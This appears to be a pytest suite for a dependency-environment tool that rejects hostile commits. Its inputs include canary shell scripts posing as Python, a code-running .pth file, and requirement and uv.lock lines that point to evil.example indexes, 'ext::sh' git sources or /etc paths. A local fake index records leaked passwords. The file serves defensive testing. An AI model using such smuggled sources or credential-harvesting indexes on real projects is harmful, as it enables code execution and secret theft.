"""A commit that wants a program run, or a secret sent, by what it says of its environment."""

import http.server
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from lockproof.adapters.environment.build import PipelineEnvironment, prepare
from lockproof.adapters.environment.installers import Recipe, installer_variables
from lockproof.adapters.environment.interpreters import Interpreter, find_uv, inspect
from lockproof.adapters.environment.pins import read_pins
from lockproof.adapters.environment.places import Places
from lockproof.adapters.sandbox.detect import find_isolation
from lockproof.config import EnvironmentPolicy, Policy
from lockproof.config.policy import PARTS, file_model
from lockproof.errors import ConfigError, LockproofError
from lockproof.steps.surroundings import Surroundings, surroundings

from .pipelines import Silence

UV = find_uv()
ISOLATION = anyio.run(find_isolation)
HASH = "sha256:" + "a" * 64


def _quiet(_line: str) -> None:
    """Nothing."""


@pytest.fixture(autouse=True)
def clean(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in list(os.environ):
        if name.startswith(("PIP_", "UV_")) or name.lower().endswith("_proxy"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")
    monkeypatch.setenv("PIP_RETRIES", "0")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    git(folder, "init", "-q")
    return folder


def git(folder: Path, *argv: str) -> None:
    who = ("-c", "user.name=T", "-c", "user.email=t@example.com")
    subprocess.run(["git", *who, *argv], cwd=folder, check=True)


def look(root: Path, checkout: Path | None = None, **policy: object) -> Surroundings:
    stated = file_model(PARTS[name] for name in policy).model_validate(policy)
    parsed = Policy(**dict(stated))
    work = root.parent / "work"
    work.mkdir(exist_ok=True)
    return anyio.run(surroundings, parsed, checkout or root, root, root, work, Silence(), ISOLATION)


# --- interpreters --------------------------------------------------------------------------------


def canary(path: Path) -> Path:
    """A program that says it is a Python, and leaves a mark beside the repository."""
    mark = path.parents[1] / "ran" if path.parent.name != "tools" else path.parents[2] / "ran"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'#!/bin/sh\necho ran > {mark}\nexec {sys.executable} "$@"\n')
    path.chmod(0o755)
    return mark


@pytest.mark.parametrize("name", ["tools/python", "/proc/self/cwd/tools/python", "mine/python"])
def test_a_program_that_git_holds_is_not_started(
    root: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    monkeypatch.chdir(root)
    mark = canary(root / "tools" / "python")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "tools")
    (root / "mine").mkdir()
    (root / "mine" / "python").symlink_to("../tools/python")
    with pytest.raises(ConfigError, match=r"environment\.interpreter: '.*' is held by Git"):
        look(root, environment={"interpreter": name})
    (root / "lock.txt").write_text("alpha==1.0\n")
    with pytest.raises(ConfigError, match=r"environment\.python: '.*' is held by Git"):
        look(root, environment={"requirements": "lock.txt", "python": name})
    assert not mark.exists()
    # The advice, taken.
    assert look(root, environment={"interpreter": sys.executable}).described.python


def test_a_program_on_the_path_that_git_holds(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mark = canary(root / "tools" / "my-python")
    git(root, "add", "-A")
    monkeypatch.setenv("PATH", str(root / "tools"), prepend=os.pathsep)
    with pytest.raises(ConfigError, match="is held by Git"):
        look(root, environment={"interpreter": "my-python"})
    assert not mark.exists()


def test_what_a_virtual_environment_starts_with_is_not_the_commits(root: Path) -> None:
    venv = root / ".venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", venv], check=True)
    mark = root.parent / "ran"
    (site,) = venv.glob("lib/python*/site-packages")
    (site / "x.pth").write_text(f"import os; open({str(mark)!r}, 'w').close()\n")
    (venv / ".gitignore").unlink(missing_ok=True)
    policy = {"interpreter": ".venv/bin/python"}
    assert look(root, environment=policy).described.python, "untracked, it is the user's own"
    assert mark.exists(), "this test can fail"
    mark.unlink()
    git(root, "add", "-f", str(site / "x.pth"))
    with pytest.raises(ConfigError, match="is held by Git"):
        look(root, environment=policy)
    assert not mark.exists()


def test_a_program_in_a_submodule_is_held_by_git(root: Path) -> None:
    mark = canary(root / "lib" / "tools" / "python")
    git(root / "lib", "init", "-q")
    git(root / "lib", "add", "-A")
    git(root / "lib", "commit", "-qm", "lib")
    git(root, "-c", "advice.addEmbeddedRepo=false", "add", "lib")
    with pytest.raises(ConfigError, match="is held by Git"):
        look(root, environment={"interpreter": "lib/tools/python"})
    assert not mark.exists()


def test_an_interpreter_starts_without_secrets_home_or_network(
    root: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    for name in ("AWS_SECRET_ACCESS_KEY", "HTTPS_PROXY", "MY_TOKEN"):
        monkeypatch.setenv(name, "http://me:s3cret@127.0.0.1:9")
    monkeypatch.setenv("HOME", str(tmp_path))
    seen = tmp_path / "seen"
    program = tmp_path / "bin" / "python"
    program.parent.mkdir()
    program.write_text(
        f'#!/bin/sh\n{{ env; ls -A ~; echo; }} >> {seen}\nexec {sys.executable} "$@"\n'
    )
    program.chmod(0o755)
    assert anyio.run(inspect, program) is not None
    run = {"pass-env": ["*"], "network": True}
    assert look(root, environment={"interpreter": str(program)}, run=run).described.python
    text = seen.read_text()
    assert "HOME=" in text
    assert "s3cret" not in text
    assert f"HOME={tmp_path}\n" not in text


# --- files of pins -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("-r ../outside.txt", "outside of the repository"),
        ("-r https://evil.example/more.txt", "outside of the repository"),
        ("-r more.txt -r other.txt", "does not belong"),
        ("-r 'more.txt'", "does not belong"),
        ("-r ${HOME}/more.txt", "write out what stands for a variable"),
        ("alpha @ https://evil.example/${PIP_INDEX_URL}#sha256=" + "a" * 64, "write out"),
        ("-e.", "a folder cannot be part"),
        ("--edit=.", "a folder cannot be part"),
        ("--index http://evil.example", "does not belong"),
        ("--trusted-host evil.example", "does not belong"),
        ("--config-settings=x=y", "does not belong"),
        ("--use-feature=fast-deps", "does not belong"),
        ("--index-url http://evil.example/simple", "'http:' is not a way"),
        ("--find-links ../wheels", "outside of the repository"),
        ("--find-links file:///etc", "'file:' is not a way"),
        ("-f link", "outside of the repository"),
        (f"../alpha-1.0-py3-none-any.whl --hash={HASH}", "outside of the repository"),
        (f"alpha @ file:///tmp/alpha.whl --hash={HASH}", "'file:' is not a way"),
        (f"alpha @ git+ext::sh@{'a' * 40}", r"'git\+ext:' is not a way"),
        (f"alpha @ git+file:///home/me/alpha@{'a' * 40}", r"'git\+file:' is not a way"),
        (f"alpha @ hg+https://evil.example/alpha@{'a' * 40}", r"'hg\+https:' is not a way"),
        (f"alpha==1.0 --hash={HASH} --config-settings=x=y", "only --hash"),
        ("alpha==1.0 --global-option=x", "only --hash"),
        ("-c limits.txt", "'file:' is not a way"),
        ("# -*- coding: utf-7 -*-\nalpha==1.0", "declares an encoding"),
    ],
)
def test_a_file_of_pins_that_leads_elsewhere(root: Path, text: str, message: str) -> None:
    (root / "link").symlink_to("/etc")
    (root / "more.txt").write_text("beta==1.0\n")
    (root / "other.txt").write_text("beta==1.0\n")
    (root / "more.txt -r other.txt").write_text("beta==1.0\n")
    (root / "'more.txt'").write_text("beta==1.0\n")
    (root / "limits.txt").write_text(f"alpha @ file:///tmp/alpha.whl --hash={HASH}\n")
    for folder in ("${HOME}", "https:/evil.example"):
        (root / folder).mkdir(parents=True)
        (root / folder / "more.txt").write_text("beta==1.0\n")
    (root.parent / "outside.txt").write_text("beta==1.0\n")
    (root / "lock.txt").write_text(f"{text}\nalpha==1.0\n")
    with pytest.raises(ConfigError, match=message):
        read_pins(root / "lock.txt", root)


def test_what_pip_compile_and_uv_write_is_read(root: Path) -> None:
    lines = (
        "# This file was autogenerated by uv\n-i https://pypi.org/simple\n"
        "--extra-index-url=https://download.example/whl/cpu\n--only-binary :all:\n"
        f"alpha==1.0 ; python_version >= '3.8' \\\n    --hash={HASH} \\\n    --hash={HASH}\n"
        f"    # via -r more.in\nbeta @ git+https://code.example/beta@{'a' * 40}\n"
        f"./wheels/gamma-1.0-py3-none-any.whl --hash={HASH}\n-c limits.txt\n"
    )
    (root / "lock.txt").write_text(lines)
    (root / "limits.txt").write_text("delta<5\n")
    pins = read_pins(root / "lock.txt", root)
    assert pins.hosts == {"pypi.org", "download.example", "code.example"}
    assert {"alpha", "beta"} < pins.names


# --- credentials ---------------------------------------------------------------------------------


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[tuple[str, list[str]]]:
    """A package index that keeps what it is told."""
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.path} {self.headers.get('Authorization', '')}")
            # Asks for a password, as an index that wants one does.
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="x"')
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_HEAD = do_POST = do_GET

        def log_message(self, *_args: object) -> None:
            """Nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://localhost:{server.server_port}/simple", heard
        server.shutdown()
        thread.join()


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    netrc = folder / ".netrc"
    netrc.write_text(
        "machine index.example login me password s3cret\ndefault login me password s3cret\n"
    )
    netrc.chmod(0o600)
    for name in ("XDG_CONFIG_HOME", "XDG_CACHE_HOME", "NETRC"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("HOME", str(folder))
    return folder


def build(root: Path, tmp_path: Path, **policy: str) -> PipelineEnvironment | None:
    parsed = EnvironmentPolicy.model_validate({k.replace("_", "-"): v for k, v in policy.items()})
    try:
        return anyio.run(prepare, parsed, root, tmp_path / "cache", _quiet, ISOLATION)
    except LockproofError:
        return None


@pytest.mark.parametrize("file", ["requirements", "uv.toml", "pyproject.toml"])
def test_an_index_of_the_commit_gets_no_password(
    root: Path,
    home: Path,
    tmp_path: Path,
    evil: tuple[str, list[str]],
    monkeypatch: pytest.MonkeyPatch,
    file: str,
) -> None:
    url, heard = evil
    # Nobody listens at the user's own index.
    monkeypatch.setenv("PIP_INDEX_URL", "http://127.0.0.1:9/simple")
    first = f"--extra-index-url {url}\n" if file == "requirements" else ""
    (root / "lock.txt").write_text(f"{first}alpha==1.0\n")
    if file == "uv.toml":
        (root / "uv.toml").write_text(f'extra-index-url = ["{url}"]\n')
    if file == "pyproject.toml":
        text = f'[[tool.uv.index]]\nurl = "{url}"\n'
        (root / "pyproject.toml").write_text(text)
    assert build(root, tmp_path, requirements="lock.txt") is None
    assert not [line for line in heard if "Basic" in line]
    assert bool(heard) == (file == "requirements"), "settings beside the file are not read"


@pytest.mark.skipif(UV is None, reason="no uv")
def test_an_index_of_a_uv_lock_gets_no_password_by_its_name(
    root: Path,
    home: Path,
    tmp_path: Path,
    evil: tuple[str, list[str]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    url, heard = evil
    monkeypatch.setenv("UV_INDEX_INTERNAL_USERNAME", "me")
    monkeypatch.setenv("UV_INDEX_INTERNAL_PASSWORD", "s3cret")
    (root / "pyproject.toml").write_text(
        '[project]\nname = "p"\nversion = "0"\nrequires-python = ">=3.8"\n'
        'dependencies = ["alpha==1.0"]\n'
        f'[[tool.uv.index]]\nname = "internal"\nurl = "{url}"\ndefault = true\n'
    )
    (root / "uv.lock").write_text(
        'version = 1\nrevision = 2\nrequires-python = ">=3.8"\n\n'
        f'[[package]]\nname = "alpha"\nversion = "1.0"\nsource = {{ registry = "{url}" }}\n'
        f'wheels = [{{ url = "{url}/alpha-1.0-py3-none-any.whl", hash = "{HASH}" }}]\n\n'
        '[[package]]\nname = "p"\nversion = "0"\nsource = { virtual = "." }\n'
        'dependencies = [{ name = "alpha" }]\n\n[package.metadata]\n'
        'requires-dist = [{ name = "alpha", specifier = "==1.0" }]\n'
    )
    assert build(root, tmp_path, uv_lock="uv.lock") is None
    assert heard, "this test can fail"
    assert not [line for line in heard if "Basic" in line]


@pytest.mark.parametrize(
    "source",
    [
        'source = { git = "ext::sh -c x" }',
        'source = { git = "file:///home/me/private" }',
        'source = { path = "../alpha.whl" }',
        'source = { url = "http://evil.example/alpha.whl" }',
        'source = { registry = "/srv/wheels" }',
        'source = { registry = "https://pypi.org/simple" }\nsdist = { path = "/etc/x" }',
        'source = { registry = "wheels" }\nwheels = [{ path = "../../x.whl" }]',
    ],
)
def test_a_uv_lock_that_leads_elsewhere(root: Path, tmp_path: Path, source: str) -> None:
    (root / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "0"\n')
    (root / "uv.lock").write_text(f'[[package]]\nname = "alpha"\nversion = "1"\n{source}\n')
    policy = EnvironmentPolicy.model_validate({"uv-lock": "uv.lock"})
    with pytest.raises(ConfigError, match=r"uv\.lock: alpha: '.*' is (outside|not a way)"):
        anyio.run(prepare, policy, root, tmp_path / "cache", _quiet, ISOLATION)


def variables(tmp_path: Path, *hosts: str) -> dict[str, str]:
    interpreter = Interpreter(Path(sys.executable), "3", "CPython", "x", Path(sys.executable))
    recipe = Recipe("x", interpreter, "d", places=Places(frozenset(hosts)))
    return installer_variables(recipe, UV, tmp_path / "env")


def test_the_users_own_index_keeps_the_users_password(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_INDEX_URL", "https://index.example/simple")
    for kept in ((), ("index.example",), ("pypi.org", "index.example")):
        found = variables(tmp_path, *kept)
        assert (found["HOME"], found.get("NETRC")) == (str(home), None)
    other = variables(tmp_path, "index.example", "evil.example")
    assert (other["NETRC"], Path(other["HOME"]).exists()) == (os.devnull, False)
    assert other["PIP_INDEX_URL"] == "https://index.example/simple"


def test_settings_for_uv_are_the_users_only(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if UV is None:
        pytest.skip("no uv")
    assert variables(tmp_path)["UV_NO_CONFIG"] == "1"
    own = home / ".config" / "uv" / "uv.toml"
    own.parent.mkdir(parents=True)
    own.write_text('index-url = "https://index.example/simple"\n')
    assert variables(tmp_path)["UV_CONFIG_FILE"] == str(own)
    assert variables(tmp_path, "index.example")["HOME"] == str(home)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("UV_CONFIG_FILE", "uv.toml")
    assert variables(tmp_path)["UV_CONFIG_FILE"] == str(tmp_path / "uv.toml"), "not the commit's"
